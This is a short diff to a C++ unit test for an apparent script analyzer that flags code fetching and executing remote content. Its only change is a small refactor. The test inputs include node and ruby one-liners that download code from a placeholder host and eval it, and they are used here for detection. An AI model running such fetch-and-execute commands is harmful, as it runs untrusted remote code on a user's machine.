@@ -47,7 +47,8 @@ TEST_CASE("code that runs what it fetched is network to exec") {
                       "node -e \"fetch('https://x.example.com/p.js').then(r=>r.text()).then(eval)\"",
                       "ruby -e 'eval(Net::HTTP.get(URI(\"https://x.example.com/p.rb\")))'"}) {
     INFO(script);
-    const auto* flow = flow_of(analyze(script), "network", "exec");
+    auto facts = analyze(script);
+    const auto* flow = flow_of(facts, "network", "exec");
     REQUIRE(flow);
     CHECK(flow->host == "x.example.com");
   }
